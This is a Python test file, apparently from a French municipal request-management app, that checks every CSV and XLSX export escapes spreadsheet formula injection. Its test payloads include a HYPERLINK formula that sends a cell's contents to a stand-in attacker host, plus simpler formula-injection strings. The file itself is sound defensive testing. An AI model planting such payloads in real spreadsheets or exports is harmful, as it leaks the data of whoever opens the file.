"""Every CSV/XLSX export of the core and the loaded plugins, fed formula payloads.

The export routes are found in the app's URL map, the list exports in the
admin's model views: an export added later is either covered here or fails
:func:`test_every_export_route_is_covered`. Each export is downloaded in
every format it offers, after demo data were loaded and formula payloads
written into the fields it shows; no cell of any file may be a live formula.
"""
import csv
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import String, select
from sqlalchemy import inspect as sa_inspect

from grc_core.demo import load_demo
from grc_core.extensions import db
from grc_core.models import AuditEvent, Commune, NotificationTemplate, Request, RequestType, RoutingRule, Service
from grc_core.plugin_api.testing import in_commune, login, make_agent
from grc_core.security.permissions import grantable_permissions
from grc_core.spreadsheet import FORMULA_STARTS, PLAIN_NUMBER, neutralize, table_to_csv, table_to_xlsx
from grc_core.tenancy import unscoped

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'
PAYLOADS = (HYPERLINK, "=1+1", "@SUM(1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1")
INSEE = "45901"
# Routes that write a file, by endpoint; model views' "<view>.export" are found on their own.
CUSTOM_EXPORTS = {"core_requests.export", "core_dashboards.export",
                  "etat_civil_recensement.quarterly_list", "social_registre.prefect_export"}
# Exports of what the code declares, no stored input (the register of processing activities).
DECLARED_ONLY = {"core_processing_register.export"}
# The queue's large exports, written by a job with core_requests.export's writer (their formula
# cells are checked in tests/test_export_jobs.py), and the page listing them.
JOB_EXPORTS = {"core_requests.exports", "core_requests.export_download"}
# Exports whose stored input is fed a formula by their plugin's own suite (written through
# spreadsheet_download, the same writer): survey comments (plugins/enquetes/tests/test_surveys.py),
# barometer answers (plugins/enquetes/tests/test_barometers.py), an agent's name on his satisfaction
# figures (plugins/enquetes/tests/test_results.py).
PLUGIN_TESTED = {"enquetes_results.export", "enquetes_barometer_results.export", "enquetes_agent_results.export"}


def is_export_rule(rule) -> bool:
    return "export" in rule.rule or rule.rule.endswith((".csv", ".xlsx")) or "<fmt>" in rule.rule


def model_views(app):
    admin = app.extensions["admin"][0]
    return [view for view in admin._views if getattr(view, "can_export", False)]


def cells(response, fmt):
    """Every cell of the file, as text (XLSX formulas keep their ``=``)."""
    assert response.status_code == 200, (response.status_code, response.headers.get("Location"))
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response.headers["Cache-Control"]
    if fmt == "csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"live formula {cell.value!r}"
            values.append("" if cell.value is None else str(cell.value))
    return values


def assert_no_live_formula(values, where):
    for value in values:
        assert not value.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(value), (where, value)


def assert_neutralized(values, payload, where):
    expected = ("'" + payload).replace("\r", "\n")
    assert expected in [value.replace("\r", "\n") for value in values], (where, payload)


# --- the writer itself ------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text_in_csv_and_xlsx(payload):
    rows = [["a", "b"], [payload, "ok"]]
    csv_cells = [c for row in csv.reader(io.StringIO(table_to_csv(rows).decode("utf-8-sig")), delimiter=";")
                 for c in row]
    assert csv_cells == ["a", "b", "'" + payload, "ok"]
    sheet = load_workbook(io.BytesIO(table_to_xlsx(rows, "T"))).active
    # XML reads a carriage return back as a line feed.
    assert sheet.cell(2, 1).value == ("'" + payload).replace("\r", "\n") and sheet.cell(2, 1).data_type == "s"


def test_numbers_stay_numbers():
    assert neutralize("-12") == "-12" and neutralize("-3,5") == "-3,5" and neutralize("+4") == "+4"
    assert neutralize("-1+1") == "'-1+1" and neutralize("- 3") == "'- 3"
    sheet = load_workbook(io.BytesIO(table_to_xlsx([[-12, -3.5, "-7"]], "T"))).active
    assert [c.value for c in sheet[1]] == [-12, -3.5, "-7"] and sheet.cell(1, 1).data_type == "n"
    assert table_to_csv([[-12, "-7", date(2026, 12, 6)]]).decode("utf-8-sig") == "-12;-7;06/12/2026\r\n"


# --- every export of the app ------------------------------------------------------------

def test_every_export_route_is_covered(app):
    views = {f"{view.endpoint}.export" for view in model_views(app)}
    found = {rule.endpoint for rule in app.url_map.iter_rules() if is_export_rule(rule)}
    unknown = found - views - CUSTOM_EXPORTS - DECLARED_ONLY - JOB_EXPORTS - PLUGIN_TESTED
    assert not unknown, f"export routes not fed a payload by this test: {unknown}"


@pytest.fixture
def demo(app):
    """The demo communes, an agent holding every permission, and ids."""
    with app.app_context():
        load_demo("demo-grc-2026")
        commune = db.session.scalar(select(Commune).where(Commune.insee_code == INSEE))
        codes = [p.code for p in grantable_permissions(commune)]
    make_agent(app, commune.id, "exports@x.fr", "admin", permissions=codes, platform_admin=True)
    return commune.id


def _routing_rule(commune_id):
    service = db.session.scalars(select(Service).where(Service.commune_id == commune_id)).first()
    return RoutingRule(commune_id=commune_id, label="Règle", service_id=service.id)


# Models whose list the demo data leave empty: one row made here.
MISSING_FROM_DEMO = {
    RoutingRule: _routing_rule,
    NotificationTemplate: lambda commune_id: NotificationTemplate(commune_id=commune_id, subject="S", body="B"),
    AuditEvent: lambda commune_id: AuditEvent(commune_id=commune_id, action="export.test", target="t"),
}


def poison_model_rows(app, commune_id):
    """In one row of every exported model, a payload in each text column the
    export shows (through relations too); the columns poisoned per view."""
    poisoned = {}
    with app.test_request_context(), unscoped():
        for view in model_views(app):
            model = view.model
            statement = select(model)
            if "commune_id" in model.__table__.columns:
                statement = statement.where(model.commune_id == commune_id)
            row = db.session.scalars(statement.order_by(*sa_inspect(model).primary_key).limit(1)).first()
            if row is None and model in MISSING_FROM_DEMO:
                row = MISSING_FROM_DEMO[model](commune_id)
                db.session.add(row)
                db.session.flush()
            assert row is not None, f"{view.endpoint}: no demo row to export (add one to MISSING_FROM_DEMO)"
            names = []
            for index, (name, _title) in enumerate(view._export_columns):
                *path, attribute = str(name).split(".")
                target = row
                for step in path:
                    target = getattr(target, step, None)
                if target is None:
                    continue
                column = sa_inspect(type(target)).columns.get(attribute)
                if column is None or not isinstance(column.type, String) or column.primary_key or column.foreign_keys:
                    continue
                if column.type.length is not None and column.type.length < len(HYPERLINK):
                    continue  # codes and short choices: a payload there is not what a user can type
                setattr(target, attribute, PAYLOADS[index % len(PAYLOADS)])
                names.append(PAYLOADS[index % len(PAYLOADS)])
            db.session.commit()
            poisoned[view.endpoint] = names
    return poisoned


def check_list_exports(app, client, demo):
    poisoned = poison_model_rows(app, demo)
    for view in model_views(app):
        assert set(view.export_types) == {"csv", "xlsx"}, view.endpoint
        for fmt in view.export_types:
            where = f"{view.endpoint} ({fmt})"
            values = cells(client.get(f"{view.url.rstrip('/')}/export/{fmt}/"), fmt)
            assert_no_live_formula(values, where)
            for payload in poisoned[view.endpoint]:
                assert_neutralized(values, payload, where)
    assert any(poisoned.values())


def check_queue_export(app, client, demo):
    with in_commune(app, demo):
        for request in db.session.scalars(select(Request)):
            request.subject = HYPERLINK
        db.session.commit()
    for fmt in ("csv", "xlsx"):
        values = cells(client.get(f"/admin/requests/export.{fmt}?kind=all"), fmt)
        assert_no_live_formula(values, f"queue ({fmt})")
        assert_neutralized(values, HYPERLINK, f"queue ({fmt})")


def check_dashboard_exports(app, client, demo):
    with in_commune(app, demo):
        for index, service in enumerate(db.session.scalars(select(Service).order_by(Service.id))):
            service.name = f"{PAYLOADS[index % len(PAYLOADS)]} {service.code}"
        for index, request_type in enumerate(db.session.scalars(select(RequestType).order_by(RequestType.id))):
            request_type.label = f"=1+1 {request_type.code}"
        db.session.commit()
    home = client.get("/admin/dashboards/").get_data(as_text=True)
    boards = sorted(set(re.findall(r'href="(/admin/dashboards/[\w.]+/)"', home)))
    assert boards, "no dashboard linked"
    exports, neutralized = set(), 0
    for board in boards:
        page = client.get(board + "?period=12m").get_data(as_text=True)
        exports |= {link.replace("&amp;", "&") for link in re.findall(r'href="([^"]*/export/[^"]+)"', page)}
    assert {link.split("?")[0].rsplit(".", 1)[1] for link in exports} == {"csv", "xlsx"}
    for link in sorted(exports):
        fmt = link.split("?")[0].rsplit(".", 1)[1]
        values = cells(client.get(link), fmt)
        assert_no_live_formula(values, link)
        neutralized += sum(value.startswith("'") for value in values)
    assert neutralized, "no payload reached a widget's export"


def check_recensement_list(app, client, demo):
    from grc_core.workflows.deadlines import local_date
    from plugins.etat_civil import request_types as rt

    with in_commune(app, demo):
        recensement = db.session.scalars(select(Request).join(Request.request_type).where(
            RequestType.code == rt.RECENSEMENT, Request.state.not_in(("refusee", "classee")))).first()
        recensement.data = {**recensement.data, "jeune_nom": HYPERLINK, "jeune_prenoms": "@SUM(1)",
                            "jeune_lieu_naissance": "-1+1"}
        received = local_date(recensement.received_at)
        db.session.commit()
    quarter = (received.month - 1) // 3 + 1
    values = cells(client.get(f"/admin/etat_civil/recensement/liste.csv?annee={received.year}&trimestre={quarter}"),
                   "csv")
    assert_no_live_formula(values, "recensement")
    for payload in (HYPERLINK, "@SUM(1)", "-1+1"):
        assert_neutralized(values, payload, "recensement")


def check_prefect_export(app, client, demo):
    from plugins.social.models import Alert, RegisterEntry

    with in_commune(app, demo):
        entries = list(db.session.scalars(select(RegisterEntry)))
        assert entries, "no register entry in the demo data"
        entries[0].nom, entries[0].telephone, entries[0].personne_a_prevenir = HYPERLINK, "+1+1", "=1+1"
        if not db.session.scalar(select(Alert).where(Alert.ended_at.is_(None))):
            db.session.add(Alert(commune_id=demo, kind="canicule", reference="Arrêté"))
        db.session.commit()
    values = cells(client.get("/admin/social/registre/prefet.csv"), "csv")
    assert_no_live_formula(values, "préfet")
    for payload in (HYPERLINK, "+1+1", "=1+1"):
        assert_neutralized(values, payload, "préfet")


def test_every_export_of_the_app_neutralizes_the_formulas_stored_in_its_data(app, client, demo):
    # One test on one load of the demo data (long to build): each check
    # poisons the fields its export shows, then reads every file it offers.
    login(client, "exports@x.fr")
    loaded = app.extensions["grc"].names
    check_list_exports(app, client, demo)
    check_queue_export(app, client, demo)
    check_dashboard_exports(app, client, demo)
    if "etat_civil" in loaded:
        check_recensement_list(app, client, demo)
    if "social" in loaded:
        check_prefect_export(app, client, demo)


def test_an_aware_moment_is_written_in_the_communes_local_time():
    """PostgreSQL hands back aware datetimes; XLSX refuses a time zone (a 500 on every export)."""
    from datetime import datetime, timezone

    moment = datetime(2026, 7, 1, 10, 0, tzinfo=timezone.utc)
    workbook = load_workbook(io.BytesIO(table_to_xlsx([["Reçu le"], [moment]], "Demandes")))
    assert workbook.active["A2"].value == datetime(2026, 7, 1, 12, 0)
    assert "01/07/2026 12:00" in table_to_csv([[moment]]).decode("utf-8-sig")
